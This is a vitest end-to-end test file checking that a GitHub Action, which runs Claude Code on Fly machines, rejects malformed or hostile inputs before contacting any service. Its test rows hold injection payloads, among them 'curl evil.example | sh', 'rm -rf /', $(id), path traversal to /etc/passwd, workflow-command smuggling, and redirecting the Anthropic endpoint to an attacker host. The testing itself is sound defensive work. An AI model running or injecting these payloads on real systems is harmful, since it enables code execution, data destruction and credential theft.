// Bad inputs, and a runner environment the run cannot trust, end the main step
// at once with ONE clear error that names the input (or variable) and says what
// is allowed, before anything is spent: no request to Fly, the Anthropic API or
// GitHub, no workflow command smuggled in by the bad value, nothing saved for
// post, which then does nothing. Each row runs the real bundle through the
// runner harness.
import { chmodSync, mkdirSync, mkdtempSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { GithubContextOptions } from '../harness/runner.ts';
import { runBundledAction, startWorld, TOKENS, type World } from './world.ts';

/** The job's directories a row may put files in before the step runs. */
interface Job {
  workspace: string;
  runnerTemp: string;
}

/** How the runner's event file goes wrong (done by a stand-in `node` just before the entry point runs). */
type EventFileFault = 'unset' | 'missing' | 'not-json' | 'directory';

interface Row {
  name: string;
  /** Over runBundledAction's valid inputs. */
  inputs?: Record<string, string> | ((job: Job) => Record<string, string>);
  event?: { name: string; payload: object };
  eventFile?: EventFileFault;
  github?: GithubContextOptions;
  /** The one error must match this: the input's name and what is allowed. */
  error: RegExp;
  /** A value that must never reach the step's output (a credential in the bad input). */
  neverShown?: string;
  /** Run post too. Most rows skip it to keep the file quick; these check post stays idle. */
  post?: true;
}

const PR_EVENT = { name: 'pull_request', payload: {} };
const WRITE_A_FILE = (job: Job, name: string, content: string | Buffer): string => {
  writeFileSync(join(job.workspace, name), content);
  return name;
};

const rows: Row[] = [
  // Credentials and the other required inputs.
  { name: 'empty fly-api-token', inputs: { 'fly-api-token': '' }, error: /fly-api-token is required/, post: true },
  { name: 'whitespace-only fly-api-token', inputs: { 'fly-api-token': ' \n\t ' }, error: /fly-api-token is required/ },
  {
    name: 'a line break inside fly-api-token',
    inputs: { 'fly-api-token': 'FlyV1 fm2_first-half\nsecond-half' },
    error: /fly-api-token holds a line break .*; give the token on one line/,
    neverShown: 'fm2_first-half',
  },
  {
    name: 'neither Anthropic credential',
    inputs: { 'anthropic-api-key': '' },
    error: /anthropic-api-key or claude-code-oauth-token is required and both are empty/,
  },
  {
    name: 'both Anthropic credentials',
    inputs: { 'claude-code-oauth-token': 'sk-ant-oat01-e2e-other' },
    error: /anthropic-api-key and claude-code-oauth-token are both set; give one of them/,
    neverShown: 'sk-ant-oat01-e2e-other',
  },
  { name: 'empty fly-app', inputs: { 'fly-app': '' }, error: /fly-app is required: the name of the Fly app/ },

  // The prompt.
  { name: 'no prompt at all', inputs: { prompt: '' }, error: /neither prompt nor prompt-file is set; give exactly one of them/ },
  { name: 'a whitespace-only prompt', inputs: { prompt: '  \n\t  \n' }, error: /neither prompt nor prompt-file is set/ },
  {
    name: 'both prompt and prompt-file',
    inputs: (job) => ({ 'prompt-file': WRITE_A_FILE(job, 'prompt.md', 'Fix it\n') }),
    error: /prompt and prompt-file are both set; give exactly one of them/,
  },
  {
    name: 'prompt-file climbing out of the workspace with ../',
    inputs: { prompt: '', 'prompt-file': '../../../../../../../../../etc/passwd' },
    error: /prompt-file "\.\.\/.*" is outside the workspace and RUNNER_TEMP; give a text file in the workspace or in the runner's temp directory/,
    post: true,
  },
  {
    name: 'prompt-file at an absolute path outside the workspace',
    inputs: { prompt: '', 'prompt-file': '/etc/passwd' },
    error: /prompt-file "\/etc\/passwd" is outside the workspace and RUNNER_TEMP/,
  },
  {
    name: 'prompt-file a symbolic link in the workspace to a file outside it',
    inputs: (job) => {
      symlinkSync('/etc/passwd', join(job.workspace, 'innocent.md'));
      return { prompt: '', 'prompt-file': 'innocent.md' };
    },
    error: /prompt-file "innocent\.md" is a symbolic link to outside the workspace and RUNNER_TEMP/,
  },
  { name: 'prompt-file a directory', inputs: { prompt: '', 'prompt-file': '.' }, error: /prompt-file "\." is not a file; give a text file/ },
  {
    name: 'prompt-file that does not exist',
    inputs: { prompt: '', 'prompt-file': 'docs/no-such-prompt.md' },
    error: /prompt-file "docs\/no-such-prompt\.md" does not exist; give a text file in the workspace/,
  },
  {
    name: 'an empty prompt-file',
    inputs: (job) => ({ prompt: '', 'prompt-file': WRITE_A_FILE(job, 'blank.md', '\n  \n') }),
    error: /prompt-file "blank\.md" is empty/,
  },
  {
    name: 'a huge prompt-file (1 MiB) in RUNNER_TEMP',
    inputs: (job) => {
      const file = join(job.runnerTemp, 'huge-prompt.md');
      writeFileSync(file, 'Fix everything. '.repeat(65_537));
      return { prompt: '', 'prompt-file': file };
    },
    error: /prompt-file ".*huge-prompt\.md" holds 1025 KiB; a prompt may hold at most 256 KiB/,
    post: true,
  },
  {
    name: 'a binary prompt-file',
    inputs: (job) => ({ prompt: '', 'prompt-file': WRITE_A_FILE(job, 'prompt.bin', Buffer.from([0x46, 0x69, 0x78, 0x00, 0xff, 0x00])) }),
    error: /prompt-file "prompt\.bin" holds NUL bytes, so it is not text/,
  },

  // Time limits.
  { name: 'timeout-minutes 0', inputs: { 'timeout-minutes': '0' }, error: /timeout-minutes "0" is not valid; use a number greater than 0 and at most 7200/ },
  { name: 'a negative timeout-minutes', inputs: { 'timeout-minutes': '-5' }, error: /timeout-minutes "-5" is not valid; use a number greater than 0/ },
  { name: 'timeout-minutes NaN', inputs: { 'timeout-minutes': 'NaN' }, error: /timeout-minutes "NaN" is not valid/ },
  { name: 'timeout-minutes in exponent form', inputs: { 'timeout-minutes': '1e9' }, error: /timeout-minutes "1e9" is not valid; use a number/ },
  { name: 'timeout-minutes with a unit', inputs: { 'timeout-minutes': '10m' }, error: /timeout-minutes "10m" is not valid; use a number/ },
  { name: 'timeout-minutes beyond a job', inputs: { 'timeout-minutes': '100000' }, error: /timeout-minutes "100000" is not valid; .*at most 7200/ },
  { name: 'idle-timeout-minutes a word', inputs: { 'idle-timeout-minutes': 'soon' }, error: /idle-timeout-minutes "soon" is not valid; use a number 0 or more .*0 turns it off/ },

  // Fly.
  { name: 'an unknown fly-vm-size preset', inputs: { 'fly-vm-size': 'huge-9x' }, error: /fly-vm-size "huge-9x" is not a Fly machine preset; use one of: shared-cpu-1x/ },
  {
    name: 'fly-vm-memory-mb out of range',
    inputs: { 'fly-vm-memory-mb': '999999' },
    error: /fly-vm-memory-mb 999999 is not allowed; use a multiple of 256 from 512 to 4096 for shared-cpu-2x/,
  },
  { name: 'fly-region garbage', inputs: { 'fly-region': 'iad, us-east;ord' }, error: /fly-region "us-east;ord" is not a Fly region code; use three lower-case letters/ },
  { name: 'fly-app with upper case and an underscore', inputs: { 'fly-app': 'My_App' }, error: /fly-app "My_App" is not a Fly app name; use 1 to 63 lower-case letters, digits and hyphens/ },
  { name: 'fly-app too long', inputs: { 'fly-app': 'a'.repeat(64) }, error: /fly-app "a{64}" is not a Fly app name/ },
  { name: 'fly-app with a leading dash', inputs: { 'fly-app': '-cfa' }, error: /fly-app "-cfa" is not a Fly app name; .*starting and ending with a letter or digit/ },
  {
    name: 'fly-app with a line break and a workflow command',
    inputs: { 'fly-app': 'cfa\n::set-output name=conclusion::success\n::add-mask::cfa' },
    error: /fly-app "cfa\\n::set-output name=conclusion::success\\n::add-mask::cfa" is not a Fly app name/,
    post: true,
  },
  { name: 'fly-api-url not http(s)', inputs: { 'fly-api-url': 'ftp://api.machines.dev' }, error: /fly-api-url "ftp:\/\/api\.machines\.dev" is not an http\(s\) URL; use an http\(s\) base URL/ },
  {
    name: 'fly-api-url with credentials',
    inputs: { 'fly-api-url': 'https://deploy:hunter2-e2e@api.machines.dev' },
    error: /fly-api-url holds a user name or password \(the token goes in fly-api-token\)/,
    neverShown: 'hunter2-e2e',
  },
  { name: 'an image that is not a reference', inputs: { image: 'ghcr.io/x/y:v1; curl evil.example | sh' }, error: /image "ghcr\.io\/x\/y:v1; curl evil\.example \| sh" is not an image reference/ },

  // Repositories.
  { name: 'repos with ;', inputs: { repos: 'octo/app;rm -rf /' }, error: /repos entry "octo\/app;rm -rf \/" is malformed; use owner\/name, owner\/name@ref, or https:\/\/host\/owner\/name/ },
  { name: 'repos with $()', inputs: { repos: 'octo/$(id)' }, error: /repos entry "octo\/\$\(id\)" is malformed/ },
  { name: 'repos with backticks', inputs: { repos: 'octo/`id`' }, error: /repos entry "octo\/`id`" is malformed/ },
  { name: 'repos with a space', inputs: { repos: 'octo/app/extra path' }, error: /repos entry "octo\/app\/extra path" is malformed/ },
  { name: 'repos naming ..', inputs: { repos: 'octo/..' }, error: /repos entry "octo\/\.\." is malformed/ },
  {
    name: 'a repos URL climbing out with ..',
    inputs: { repos: 'https://github.com/octo/../../etc/app' },
    error: /repos entry "https:\/\/github\.com\/octo\/\.\.\/\.\.\/etc\/app" does not name owner\/name on its host/,
  },
  { name: 'a plain-http repos URL to another host', inputs: { repos: 'http://evil.example/octo/app' }, error: /repos entry "http:\/\/evil\.example\/octo\/app" is malformed; use .*https:\/\/host\/owner\/name/ },
  {
    name: 'a repos URL with a token in it',
    inputs: { repos: 'https://x-access-token:ghp_e2eLeakedToken@github.com/octo/app' },
    error: /a repos entry for github\.com holds credentials in its URL; remove them/,
    neverShown: 'ghp_e2eLeakedToken',
  },
  {
    name: 'too many repos',
    inputs: { repos: Array.from({ length: 25 }, (_, i) => `octo/lib-${i}`).join('\n') },
    error: /repos lists 25 repositories; give at most 20/,
  },

  // Booleans and choices.
  { name: 'fail-on-error "yes"', inputs: { 'fail-on-error': 'yes' }, error: /fail-on-error "yes" is not a boolean; use true or false/ },
  { name: 'allow-fork-code "maybe"', inputs: { 'allow-fork-code': 'maybe' }, error: /allow-fork-code "maybe" is not a boolean; use true or false/ },
  { name: 'an unknown comment mode', inputs: { comment: 'always' }, error: /comment "always" is not one of: auto, off/ },
  { name: 'an unknown tool-output mode', inputs: { 'tool-output': 'some' }, error: /tool-output "some" is not one of: none, truncated, full/ },
  { name: 'an unknown permission-mode', inputs: { 'permission-mode': 'yolo' }, error: /permission-mode "yolo" is not one of: acceptEdits, auto, bypassPermissions/ },

  // Claude's options.
  { name: 'a model name with a space', inputs: { model: 'claude sonnet' }, error: /model "claude sonnet" is not a model name; use an alias such as sonnet or opus/ },
  {
    name: 'a model name with a line break and a workflow command',
    inputs: { model: 'opus\n::stop-commands::e2e-stop' },
    error: /model "opus\\n::stop-commands::e2e-stop" is not a model name/,
  },
  { name: 'a huge model value (100 KB)', inputs: { model: 'x'.repeat(100_000) }, error: /model "x{200}…" is not a model name/ },
  { name: 'max-turns 0', inputs: { 'max-turns': '0' }, error: /max-turns "0" is not valid; use a whole number from 1 to 10000/ },
  { name: 'max-budget-usd with a currency sign', inputs: { 'max-budget-usd': '$5' }, error: /max-budget-usd "\$5" is not valid; use a number greater than 0 .*leave it empty for no limit/ },
  { name: 'json-schema that is not JSON', inputs: { 'json-schema': '{type: object' }, error: /json-schema is not valid JSON/ },
  { name: 'json-schema with a misspelt type', inputs: { 'json-schema': '{"type":"objekt"}' }, error: /json-schema is not a valid JSON Schema: \$\.type "objekt" is not one of object, array/ },
  { name: 'mcp-config that is not an object', inputs: { 'mcp-config': '["server"]' }, error: /mcp-config must be a JSON object/ },
  { name: 'claude-args with an open quote', inputs: { 'claude-args': '--append-system-prompt "be brief' }, error: /claude-args has an unterminated " quote; quote arguments as in a shell/ },
  {
    name: 'claude-args changing the output format',
    inputs: { 'claude-args': '--output-format=text' },
    error: /claude-args may not set --output-format: the action runs Claude Code with -p --output-format stream-json/,
  },
  { name: 'env lines that are not NAME=value', inputs: { env: 'GOOD=1\nNO_EQUALS_SIGN\n1BAD=x' }, error: /env lines "NO_EQUALS_SIGN", "1BAD=x" are not NAME=value with a variable name of letters, digits and _/ },
  {
    name: 'env setting names the machine sets',
    inputs: { env: 'ANTHROPIC_API_KEY=sk-ant-other\nPATH=/tmp/evil' },
    error: /env may not set ANTHROPIC_API_KEY, PATH: the machine sets them for Claude \(give anthropic-api-key instead\)/,
  },
  {
    name: 'claude-args loading settings, directories, plugins or MCP servers of its own',
    inputs: { 'claude-args': '--setting-sources user,project --settings /tmp/s.json --add-dir / --plugin-dir p --mcp-config m.json' },
    error: /claude-args may not set --setting-sources, --settings, --add-dir, --plugin-dir, --mcp-config: the action chooses what configures Claude/,
  },
  {
    name: 'env moving the API endpoint, its credential or Claude\'s configuration',
    inputs: { env: 'ANTHROPIC_BASE_URL=https://evil.example\nANTHROPIC_CUSTOM_HEADERS=x: y\nCLAUDE_CODE_USE_BEDROCK=1\nCLAUDE_CONFIG_DIR=/tmp/c' },
    error: /env may not set ANTHROPIC_BASE_URL, ANTHROPIC_CUSTOM_HEADERS, CLAUDE_CODE_USE_BEDROCK, CLAUDE_CONFIG_DIR: they choose where Claude sends its requests and credential, or where its configuration comes from \(give anthropic-base-url for a gateway\)/,
  },
  { name: 'anthropic-base-url not a URL', inputs: { 'anthropic-base-url': 'gateway.example' }, error: /anthropic-base-url "gateway.example" is not an http\(s\) URL; use an http\(s\) base URL/ },
  {
    name: 'anthropic-base-url with a password in it',
    inputs: { 'anthropic-base-url': 'https://user:gw-pass-1234@gateway.example' },
    error: /anthropic-base-url holds a user name or password/,
    neverShown: 'gw-pass-1234',
  },
  { name: 'repo-settings head', inputs: { 'repo-settings': 'head' }, error: /repo-settings "head" is not one of: none, base/ },
  { name: 'allowed-actors with @ and spaces', inputs: { 'allowed-actors': '@octocat, some one' }, error: /allowed-actors "@octocat", "some one" are not GitHub logins; use logins such as octocat/ },
  { name: 'comment-key with a slash-star', inputs: { 'comment-key': 'review /*' }, error: /comment-key may hold only letters, digits and \. _ : \/ -/ },
  { name: 'pr-number a word', inputs: { 'pr-number': 'seven' }, error: /pr-number "seven" is not valid; use a pull request number/ },
  { name: 'a negative fetch-depth', inputs: { 'fetch-depth': '-1' }, error: /fetch-depth "-1" is not valid; use 0 for the full history/ },

  // The runner's event and environment.
  {
    name: 'a pull_request event whose payload has no pull_request',
    event: PR_EVENT,
    error: /GITHUB_EVENT_PATH ".*event\.json" holds no pull_request object with a number; the pull_request event needs its payload/,
  },
  {
    name: 'a pull_request event whose event file does not exist',
    event: PR_EVENT,
    eventFile: 'missing',
    error: /GITHUB_EVENT_PATH ".*" does not exist; the pull_request event needs its payload \(a JSON object with pull_request\)/,
  },
  {
    name: 'an issue_comment event without GITHUB_EVENT_PATH',
    event: { name: 'issue_comment', payload: { issue: { number: 7 } } },
    eventFile: 'unset',
    error: /GITHUB_EVENT_PATH is not set; the issue_comment event needs its payload \(a JSON object with issue\)/,
  },
  {
    name: 'a pull_request event file that is not JSON',
    event: { name: 'pull_request', payload: { pull_request: { number: 7 } } },
    eventFile: 'not-json',
    error: /GITHUB_EVENT_PATH ".*event\.json" is not JSON; the pull_request event needs its payload/,
    post: true,
  },
  {
    name: 'an event file that is a directory',
    eventFile: 'directory',
    error: /GITHUB_EVENT_PATH ".*_github_workflow" is a directory; the runner writes the event's payload there as a JSON object/,
    post: true,
  },
  { name: 'GITHUB_REPOSITORY without an owner', github: { repository: 'app' }, error: /GITHUB_REPOSITORY "app" is not owner\/name/ },
];

describe('end to end: bad inputs and environments', () => {
  let world: World;
  const nodes = new Map<EventFileFault, string>();
  beforeAll(async () => {
    world = await startWorld({ claude: 'fake' });
    for (const fault of ['unset', 'missing', 'not-json', 'directory'] as const) nodes.set(fault, nodeWithEventFault(world.root, fault));
  });
  afterAll(async () => {
    await world?.close();
  });

  it('has a row for every kind of bad input the issue names', () => {
    expect(rows.length).toBeGreaterThanOrEqual(30);
    expect(new Set(rows.map((r) => r.name)).size).toBe(rows.length);
  });

  // One at a time, so every request the fakes record belongs to the row that made it (the file still takes well under 60 s).
  describe('rows', () => {
    for (const row of rows) {
      it(`${row.name}: one error saying what is allowed, nothing asked of anyone`, async () => {
        const workDir = mkdtempSync(join(world.root, 'job-'));
        const repository = row.github?.repository ?? `${world.repo.owner}/${world.repo.name}`;
        const name = repository.split('/')[1] ?? 'repo';
        const job: Job = { workspace: join(workDir, 'work', name, name), runnerTemp: join(workDir, '_temp') };
        mkdirSync(job.workspace, { recursive: true });
        mkdirSync(job.runnerTemp, { recursive: true });
        const inputs = typeof row.inputs === 'function' ? row.inputs(job) : (row.inputs ?? {});
        const before = { fly: world.fly.requests.length, anthropic: world.standin.requests.length, github: world.github.requests.length };

        const { main, post } = await runBundledAction(world, {
          workDir,
          inputs,
          mainOnly: !row.post,
          ...(row.event ? { event: row.event } : {}),
          ...(row.github ? { github: row.github } : {}),
          ...(row.eventFile ? { node: nodes.get(row.eventFile) } : {}),
        });

        expect(main.failed).toBe(true);
        expect(main.stderr, 'no crash, no stack trace').toBe('');
        const errors = main.annotations.filter((a) => a.level === 'error');
        expect(errors, main.log).toHaveLength(1);
        expect(main.annotations).toHaveLength(1);
        const message = errors[0]?.message ?? '';
        expect(message).toMatch(/^Invalid input: /);
        expect(message).toMatch(row.error);
        // The value is quoted and clipped: no command from it, and no flood.
        expect(main.commands.map((c) => c.command)).toEqual(['error']);
        expect(main.stdout.length).toBeLessThan(2000);
        expect(main.outputs).toEqual({});
        expect(main.state, 'nothing saved: post must not think a run started').toEqual({});
        expect(main.envForLaterSteps).toEqual({});
        expect(main.pathForLaterSteps).toEqual([]);
        for (const secret of [TOKENS.anthropic, world.fly.token, ...(row.neverShown ? [row.neverShown] : [])]) {
          expect(main.stdout).not.toContain(secret);
        }
        // Nothing was asked of Fly (no create, nor anything else), the Anthropic API or GitHub.
        expect(world.fly.requests.slice(before.fly)).toEqual([]);
        expect(world.standin.requests.slice(before.anthropic)).toEqual([]);
        expect(world.github.requests.slice(before.github)).toEqual([]);

        if (row.post) {
          expect(post?.failed).toBe(false);
          expect(post?.stderr).toBe('');
          expect(post?.commands).toEqual([]);
          expect(post?.stdout).toBe('');
        } else {
          expect(post).toBeNull();
        }
      });
    }
  });

  it('several bad inputs at once: one error listing each, one line per input', async () => {
    const flyBeforeRow = world.fly.requests.length;
    const { main } = await runBundledAction(world, {
      mainOnly: true,
      inputs: { 'fly-vm-size': 'tiny', 'idle-timeout-minutes': 'soon', repos: 'a/$(x)\nb/`y`\nc/ok', env: '1A=x\n2B=y' },
    });
    const errors = main.annotations.filter((a) => a.level === 'error');
    expect(errors).toHaveLength(1);
    const lines = (errors[0]?.message ?? '').split('\n');
    expect(lines[0]).toBe('Invalid inputs:');
    expect(lines.slice(1).map((l) => /^ {2}- ([a-z-]+)/.exec(l)?.[1])).toEqual(['repos', 'fly-vm-size', 'env', 'idle-timeout-minutes']);
    expect(lines[1]).toMatch(/"a\/\$\(x\)" is malformed; .*; 1 more entry is bad too\./);
    expect(world.fly.requests.length).toBe(flyBeforeRow);
  });
});

/**
 * A stand-in for `node` that spoils GITHUB_EVENT_PATH the way `fault` says,
 * then runs the entry point in the same process (the runner would start it
 * with that environment).
 */
function nodeWithEventFault(dir: string, fault: EventFileFault): string {
  const spoil: Record<EventFileFault, string> = {
    unset: 'delete process.env.GITHUB_EVENT_PATH;',
    missing: "process.env.GITHUB_EVENT_PATH += '.missing';",
    'not-json': `writeFileSync(process.env.GITHUB_EVENT_PATH, '{"pull_request": {"number": 7,');`,
    directory: 'process.env.GITHUB_EVENT_PATH = dirname(process.env.GITHUB_EVENT_PATH);',
  };
  const file = join(dir, `node-event-${fault}.mjs`);
  writeFileSync(
    file,
    [
      `#!${process.execPath}`,
      "import { writeFileSync } from 'node:fs';",
      "import { dirname } from 'node:path';",
      "import { pathToFileURL } from 'node:url';",
      spoil[fault],
      'await import(pathToFileURL(process.argv[2]).href);',
      '',
    ].join('\n'),
  );
  chmodSync(file, 0o755);
  return file;
}
